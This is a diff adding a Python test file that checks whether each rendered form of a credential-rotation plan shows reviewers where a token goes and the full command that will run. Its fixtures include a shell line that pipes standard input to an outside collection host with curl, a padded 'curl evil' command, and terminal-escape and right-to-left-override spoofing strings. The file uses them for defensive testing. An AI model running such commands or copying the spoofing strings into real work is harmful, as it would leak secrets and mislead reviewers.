@@ -1,0 +1,123 @@
+"""A reviewer sees where each token goes and which command will run, with every argument, in every form of a plan."""
+
+from __future__ import annotations
+
+import html
+import json
+import re
+import shlex
+from collections.abc import Callable
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from reconciler.model.address import Address
+from reconciler.model.change import Action, Change, Reason, Risk
+from reconciler.model.manifest import Delivery
+from reconciler.model.plan import Call, Plan, Verb
+from reconciler.rendering import code_hosts, deliveries, markdown, sarif, text
+from reconciler.rendering import html as page
+from reconciler.rendering import json as plan_json
+from reconciler.rendering.cells import clean
+from reconciler.rendering.findings import findings
+from reconciler.rendering.wording import Flavour
+
+RUN = [
+    "sh",
+    "-c",
+    'curl -d @- "https://collect.example.com/$HOST" <&0; echo [done] {x} & <b>' + " padding" * 30,
+    "",
+    "--",
+]
+CHECK = ["test", "-w", "/dev/null file"]
+SHOWN = {
+    "to_file": (Delivery("to_file", "secrets/agent.token"), ["the file secrets/agent.token"]),
+    "to_dotenv": (
+        Delivery("to_dotenv", "secrets/.env", settings={"name": "TOKEN"}),
+        ["the entry TOKEN of the file secrets/.env"],
+    ),
+    "to_kubernetes_secret": (
+        Delivery("to_kubernetes_secret", "k/a.yaml", settings={"name": "a", "namespace": "edge", "key": "t"}),
+        ["the file k/a.yaml, as key t of the Kubernetes Secret edge/a"],
+    ),
+    "to_command": (
+        Delivery("to_command", "sh", settings={"run": RUN, "check": CHECK, "env": ["VAULT_TOKEN"]}),
+        [shlex.join(RUN), shlex.join(CHECK), "it gets: VAULT_TOKEN"],
+    ),
+}
+FORMS: dict[str, Callable[[Plan], str]] = {
+    "text": lambda plan: re.sub(r"\n {8}(?=\S)", " ", text.text(plan, width=100)),
+    "markdown": markdown.markdown,
+    "html": lambda plan: html.unescape(page.page(plan)),
+    "sarif": lambda plan: _sarif(plan).replace("\\[", "[").replace("\\]", "]").replace("{{", "{").replace("}}", "}"),
+    "github": lambda plan: code_hosts.github(findings(plan)),
+    "gitlab": lambda plan: " ".join(
+        each["description"] for each in json.loads(code_hosts.gitlab(findings(plan), fallback="x"))
+    ),
+}
+
+
+def _sarif(plan: Plan) -> str:
+    run = json.loads(sarif.sarif(findings(plan), version="1", fallback="x"))["runs"][0]
+    return " ".join(each["message"]["text"] for each in run["results"])
+
+
+def delivering(action: Action, delivery: Delivery) -> Plan:
+    address = Address("TunnelCredential", "agent")
+    return Plan(
+        "prod",
+        changes=(Change(address, action, Reason.ROTATION, risks=(Risk.TOKEN,)),),
+        calls=(Call(f"create {address}", address, Verb.CREATE, "/credentials", deliver={"token": delivery}),),
+    )
+
+
+@pytest.mark.parametrize("action", [Action.CREATE, Action.REPLACE])
+@pytest.mark.parametrize("way", SHOWN)
+@pytest.mark.parametrize("form", FORMS)
+def test_every_form_says_where_a_token_goes_and_what_will_run(form: str, way: str, action: Action) -> None:
+    delivery, expected = SHOWN[way]
+    shown = FORMS[form](delivering(action, delivery))
+    assert [each for each in ("token will be delivered to", *expected) if each not in shown] == []
+
+
+def test_json_holds_the_whole_argument_list() -> None:
+    (call,) = json.loads(plan_json.write(delivering(Action.CREATE, SHOWN["to_command"][0])))["calls"]
+    assert call["deliver"]["token"]["settings"] == {"run": RUN, "check": CHECK, "env": ["VAULT_TOKEN"]}
+
+
+def test_a_command_too_long_for_a_message_is_whole_in_sarif_s_properties() -> None:
+    run = ["sh", "-c", "true;" * 1000 + "curl evil"]
+    plan = delivering(Action.CREATE, Delivery("to_command", "sh", settings={"run": run}))
+    results = json.loads(sarif.sarif(findings(plan), version="1", fallback="x"))["runs"][0]["results"]
+    assert all(shlex.join(run) in " ".join(each["properties"]["deliveries"]) for each in results)
+    assert "curl evil" in markdown.markdown(plan)
+    assert "more characters)" in markdown.markdown(plan)
+
+
+def test_drift_carries_nothing_out_and_shows_no_delivery() -> None:
+    plan = delivering(Action.REPLACE, SHOWN["to_command"][0])
+    assert "delivered" not in text.text(plan, flavour=Flavour.DRIFT)
+
+
+@given(st.lists(st.text(), min_size=1, max_size=4))
+def test_a_quoted_command_is_one_clean_line_and_no_other_s(arguments: list[str]) -> None:
+    shown = deliveries.quote(arguments)
+    assert clean(shown) == shown
+    if "$'" not in shown:
+        assert shlex.split(shown) == arguments
+
+
+@pytest.mark.parametrize(
+    ("arguments", "shown"),
+    [
+        (["a b", "c"], "'a b' c"),
+        (["a", "b c"], "a 'b c'"),
+        (["a\nb"], r"$'a\nb'"),
+        ([r"a\nb"], r"'a\nb'"),
+        (["\x1b[2K\\x1b it's"], r"$'\x1b[2K\\x1b it\'s'"),
+        (["\u202etxt.exe"], r"$'\u202etxt.exe'"),
+    ],
+)
+def test_arguments_that_differ_look_different(arguments: list[str], shown: str) -> None:
+    assert deliveries.quote(arguments) == shown
